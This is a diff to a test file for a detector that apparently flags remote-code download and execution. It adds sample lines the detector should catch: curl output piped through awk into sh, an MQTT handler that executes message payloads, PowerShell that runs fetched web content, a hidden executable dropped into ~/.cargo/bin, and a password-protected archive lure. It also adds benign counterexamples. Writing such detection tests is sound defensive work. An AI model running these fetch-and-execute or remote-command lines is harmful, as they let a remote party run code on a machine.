@@ -16,7 +16,37 @@ ruleCases(fetchedProgram, {
       text: 'curl -fsSLo /tmp/p "https://github.com/o/p/releases/download/v1.2.0/p"\nsha256sum -c p.sha256\nchmod +x /tmp/p && /tmp/p\n',
       severity: 'medium',
     },
-
+    {
+      name: 'an archive that only its reader opens',
+      text: 'Download [Bridge.zip](https://a.acme.test/Bridge.zip), extract it with the password `bridge`, and run `Bridge.exe`.\n',
+    },
+    {
+      name: 'a command that a page shows',
+      text: 'Open the install page, copy the command shown there and paste it in Terminal.\n',
+    },
+    {
+      name: 'lines that awk gives to a shell',
+      path: 'a.sh',
+      text: 'awk \'BEGIN{c="curl -s https://a.acme.test/x"; while((c|getline l)>0) print l | "sh"}\'\n',
+      confidence: 'medium',
+    },
+    {
+      name: 'messages of a broker that run',
+      path: 'a.py',
+      text: 'import paho.mqtt.client as m, subprocess\ndef on(c, u, msg):\n    subprocess.getoutput(msg.payload.decode())\nc.on_message = on\n',
+      confidence: 'medium',
+    },
+    {
+      name: 'an answer for a shell of Windows',
+      path: 'a.ps1',
+      text: '$c = (Invoke-WebRequest https://t.acme.test/n).Content\ncmd /c $c\n',
+      confidence: 'medium',
+    },
+    {
+      name: 'a hidden file that is made executable for later',
+      path: 'a.sh',
+      text: 'curl -sf https://dl.acme.test/p -o ~/.cargo/bin/.pf && chmod +x ~/.cargo/bin/.pf\n',
+    },
     {
       name: 'a script that is kept and run',
       path: 'a.sh',
@@ -39,6 +69,25 @@ ruleCases(fetchedProgram, {
     },
   ],
   misses: [
+    {
+      name: 'an archive of the person',
+      text: 'Unzip `export.zip` with the password from the mail, then read the CSV.\n',
+    },
+    {
+      name: 'columns that awk prints',
+      path: 'a.sh',
+      text: "curl -s https://a.acme.test/x | awk '{ print $1 }'\n",
+    },
+    {
+      name: 'messages of a broker that are shown',
+      path: 'a.py',
+      text: 'import paho.mqtt.client as m\ndef on(c, u, msg):\n    print(msg.payload.decode())\nc.on_message = on\n',
+    },
+    {
+      name: 'a program that is installed by its name',
+      path: 'a.sh',
+      text: 'curl -fsSL https://dl.acme.test/kubectl -o ~/.local/bin/kubectl && chmod +x ~/.local/bin/kubectl\n',
+    },
     {
       name: 'data that a script reads',
       path: 'a.sh',
